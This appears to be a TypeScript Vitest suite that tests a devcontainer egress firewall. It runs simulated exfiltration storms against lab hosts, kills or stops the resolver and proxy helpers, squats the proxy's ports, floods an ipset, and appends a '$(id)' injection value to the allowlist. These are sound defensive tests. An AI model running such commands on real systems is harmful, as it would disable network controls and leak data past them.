import { writeFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newToken } from './attacks/attack.js';
import { type Bare, startBare } from './bare.js';
import { arrives, escapes } from './checks.js';
import { type Lab, startLab } from './lab.js';
import { listedNames } from './listed.js';
import { until } from './namespaces.js';
import { type Rendered, removeRendered, render } from './project.js';
import { installAttacks } from './target.js';

// The firewall holds at every moment: while it starts, while it runs again, while a helper is dead, and for what was there
// before it.

let lab: Lab;
let rendered: Rendered;
const started: Bare[] = [];
const seen = (token: string): Promise<boolean> => escapes({ internet: () => lab.internet }, token);
const arrived = (token: string): Promise<boolean> => arrives({ internet: () => lab.internet }, token);

beforeAll(async () => {
  lab = await startLab();
  rendered = render(
    ...listedNames,
    '--allow',
    '.moved.example',
    '--allow',
    '.moved.example:22',
    '--mcp',
    'tracker=18080',
  );
});

afterAll(() => {
  for (const bare of started) bare.stop();
  lab?.stop();
  removeRendered();
});

type Options = Parameters<typeof startBare>[1];

async function start(options: Options = {}): Promise<Bare> {
  const bare = await startBare(lab, { rendered, ...options });
  started.push(bare);
  await installAttacks(bare);
  return bare;
}

/** Attacks without a pause until `stop`; each takes the token that was set last. */
function storm(bare: Bare): { with: (token: string) => void; stop: () => Promise<void> } {
  const set = (token: string): void => writeFileSync(bare.path('/tmp/token'), token);
  set(newToken());
  const script =
    'for i in 1 2; do while [ ! -e /tmp/calm ]; do python3 /tmp/attack.py storm - 1 /tmp/token; done & done; wait';
  const done = bare.attempt(script);
  return {
    with: set,
    stop: async () => {
      writeFileSync(bare.path('/tmp/calm'), '');
      await done;
    },
  };
}

const waitForGo = 'while [ ! -e /tmp/go ]; do sleep 0.02; done; exec /usr/local/sbin/harden-entrypoint';
const go = (bare: Bare): void => writeFileSync(bare.path('/tmp/go'), '');
const isUp =
  'for i in $(seq 200); do curl -sS -m 5 http://allowed.example/ >/dev/null && exit 0; sleep 0.1; done; exit 1';

describe.each(['direct', 'embedded'] as const)('with the name server given as %s', (resolver) => {
  it.concurrent('lets nothing out from the moment that it closes until it is ready', async () => {
    const bare = await start({ resolver, command: waitForGo });
    const attacks = storm(bare);
    const before = newToken();
    attacks.with(before);
    // The storm gets out as long as there is no firewall, so what follows means something.
    await until(() => lab.internet.escaped(before), 'the storm');
    go(bare);
    const closed = async (tables: string): Promise<boolean> =>
      (await bare.look(`${tables} -S OUTPUT`)).stdout.startsWith('-P OUTPUT DROP');
    while (!((await closed('iptables')) && (await closed('ip6tables')))) {}
    const after = newToken();
    attacks.with(after);
    await bare.ready();
    await attacks.stop();
    expect(await seen(after)).toBe(false);
  });

  it.concurrent('cuts connections from before it', async () => {
    const bare = await start({ resolver, command: waitForGo });
    const tokens = [newToken(), newToken(), newToken()];
    const wheres = [
      ['198.18.0.66', 8080],
      ['2001:2::66', 8080],
      ['198.18.0.66', 443],
    ] as const;
    const held = tokens.map((token, at) =>
      bare.attempt(`python3 /tmp/attack.py held ${wheres[at]?.[0]} ${wheres[at]?.[1]} ${token}- /tmp/second`),
    );
    for (const token of tokens) await until(() => lab.internet.escaped(`${token}--first`), 'the first words');
    go(bare);
    await bare.ready();
    writeFileSync(bare.path('/tmp/second'), '');
    await Promise.all(held);
    for (const token of tokens) expect(await seen(`${token}--second`)).toBe(false);
  });

  it.concurrent('lets nothing out while it runs again and again', async () => {
    const bare = await start({ resolver });
    await bare.ready();
    const attacks = storm(bare);
    const token = newToken();
    attacks.with(token);
    for (let count = 0; count < 20; count += 1) {
      expect((await bare.asRoot('/usr/local/sbin/init-firewall.sh')).code).toBe(0);
    }
    await attacks.stop();
    expect(await seen(token)).toBe(false);
    expect((await bare.attempt(isUp)).code).toBe(0);
  });

  it.concurrent('lets nothing out when a run again fails, and then works again', async () => {
    const bare = await start({ resolver });
    await bare.ready();
    const attacks = storm(bare);
    const token = newToken();
    attacks.with(token);
    const list = '/etc/harden-devcontainer/allowlist';
    for (const broken of ['not a name', '0.0.0.0/0', '$(id)']) {
      const script = `cp ${list} /tmp/list; echo '${broken}' >>${list}; /usr/local/sbin/init-firewall.sh; code=$?; cat /tmp/list >${list}; exit $code`;
      expect((await bare.asRoot(script)).code).toBe(1);
    }
    await attacks.stop();
    expect(await seen(token)).toBe(false);
    expect((await bare.asRoot('/usr/local/sbin/init-firewall.sh')).code).toBe(0);
    expect((await bare.attempt(isUp)).code).toBe(0);
  });
});

describe('while a helper is dead', () => {
  const kills: readonly (readonly [string, string])[] = [
    ['the resolver', 'pkill -9 -x dnsmasq'],
    ["the proxy's master", 'kill -9 $(pgrep -o -x haproxy)'],
    ["the proxy's worker", 'kill -9 $(pgrep -n -x haproxy)'],
    ['both', 'pkill -9 -x haproxy; pkill -9 -x dnsmasq'],
    ['the forwarder', 'pkill -9 -x socat'],
    ['a supervisor', 'kill -9 $(pgrep -o -x -f "s6-supervise resolver")'],
    ['every supervisor', 'pkill -9 -x s6-supervise'],
    ['the logs', 'pkill -9 -x s6-log'],
    [
      'everything but PID 1',
      'pkill -9 -x s6-supervise; pkill -9 -x s6-log; pkill -9 -x haproxy; pkill -9 -x dnsmasq; pkill -9 -x socat',
    ],
  ];

  it.concurrent.each(kills)('lets nothing out, and starts it again: %s', async (_, kill) => {
    const bare = await start();
    await bare.ready();
    const attacks = storm(bare);
    const token = newToken();
    attacks.with(token);
    // As the machine's root: the container's own may not signal every helper. Again while it starts, and while it is dead.
    expect((await bare.force(kill)).code).toBe(0);
    for (const pause of [150, 1000]) {
      await new Promise((resolve) => setTimeout(resolve, pause));
      await bare.force(kill);
    }
    const back = await bare.attempt(`(${isUp}) && ${isUp.replace('allowed.example', '127.0.0.1:18080')}`);
    await attacks.stop();
    expect(await seen(token)).toBe(false);
    expect(back.code).toBe(0);
  });

  it.concurrent('lets nothing out where the helpers are stopped, not dead', async () => {
    const bare = await start();
    await bare.ready();
    expect(
      (await bare.force('pkill -STOP -x dnsmasq; pkill -STOP -x haproxy; pkill -STOP -x s6-supervise')).code,
    ).toBe(0);
    const attacks = storm(bare);
    const token = newToken();
    attacks.with(token);
    await new Promise((resolve) => setTimeout(resolve, 1500));
    await attacks.stop();
    expect(await seen(token)).toBe(false);
  });

  it.concurrent('lets nothing out where a tool took the port of a dead proxy', async () => {
    const bare = await start();
    await bare.ready();
    const take = `import socket,sys,time
for port in (15443, 15080):
    for i in range(2000):
        try:
            s = socket.socket(); s.bind(('127.0.0.1', port)); s.listen(); globals()['s%d' % port] = s; break
        except OSError: time.sleep(0.002)
time.sleep(3)`;
    const taking = bare.attempt(`python3 -c "${take}"`);
    for (let count = 0; count < 20; count += 1) await bare.force('pkill -9 -x haproxy');
    const attacks = storm(bare);
    const token = newToken();
    attacks.with(token);
    await taking;
    await attacks.stop();
    expect(await seen(token)).toBe(false);
    expect((await bare.attempt(isUp)).code).toBe(0);
  });
});

describe('an address that an allowed name once had', () => {
  const alive = '--lifetime 12';
  const prepare = `mv /usr/local/sbin/init-firewall.sh /usr/local/sbin/real-init-firewall.sh
printf '#!/bin/sh\\nexec /usr/local/sbin/real-init-firewall.sh ${alive} "$@"\\n' >/usr/local/sbin/init-firewall.sh
chmod 0755 /usr/local/sbin/init-firewall.sh`;

  it.concurrent('is closed after its lifetime on a port that is open by address', async () => {
    const bare = await start({ prepare });
    await bare.ready();
    const name = `${newToken()}.moved.example`;
    const [first, second] = [newToken(), newToken()];
    // Its first answer is the attacker's address, which is so far an honest one.
    expect((await bare.attempt(`curl -4 -sS -m 5 http://${name}:22/${first}`)).code).toBe(0);
    expect(await seen(first)).toBe(true);
    await new Promise((resolve) => setTimeout(resolve, 13_500));
    expect((await bare.attempt(`curl -4 -sS -m 5 http://${name}:22/`)).stdout).toBe('from 198.18.0.10');
    const { code } = await bare.attempt(`python3 /tmp/attack.py tcp 198.18.0.66 22 ${second}`);
    expect(code).not.toBe(0);
    expect(await seen(second)).toBe(false);
  });

  it.concurrent('is not used by the proxy once the name has another', async () => {
    const bare = await start();
    await bare.ready();
    const name = `${newToken()}.moved.example`;
    const [first, second] = [newToken(), newToken()];
    await bare.attempt(`curl -sS -m 5 http://${name}/${first}`);
    await new Promise((resolve) => setTimeout(resolve, 2500));
    await bare.attempt(`curl -sS -m 5 --resolve ${name}:80:198.18.0.66 http://${name}/${second}`);
    expect(await arrived(second)).toBe(true);
    expect(await seen(second)).toBe(false);
  });

  it.concurrent('makes room where the set is full', async () => {
    const bare = await start();
    await bare.ready();
    // A full set of the same kind that holds a thousand addresses takes the place of the one for 65536.
    const swap = `echo 'create small hash:ip family inet timeout 43200 hashsize 64 maxelem 1000 forceadd'
for a in $(seq 4); do for b in $(seq 250); do echo "add small 203.0.$a.$b"; done; done
echo 'swap harden4-22 small'
echo 'destroy small'`;
    const token = newToken();
    // The kernel gives up an address of the new one's own bucket only. One in twenty is empty, in each set another. An
    // answer that the resolver still has would not be handed to the set again.
    const tries: (number | null)[] = [];
    const forget = 's6-svc -h /run/harden-devcontainer/services/resolver';
    while (tries.at(-1) !== 0 && tries.length < 5) {
      expect((await bare.asRoot(`{ ${swap}; } | ipset restore && ${forget}`)).code).toBe(0);
      tries.push((await bare.attempt(`curl -4 -sS -m 5 http://ssh.example:22/${token}`)).code);
    }
    expect(tries.at(-1)).toBe(0);
    expect((await bare.attempt(`python3 /tmp/attack.py tcp 203.0.9.9 22 ${token}`)).stderr).toMatch(
      /refused/,
    );
  });
});
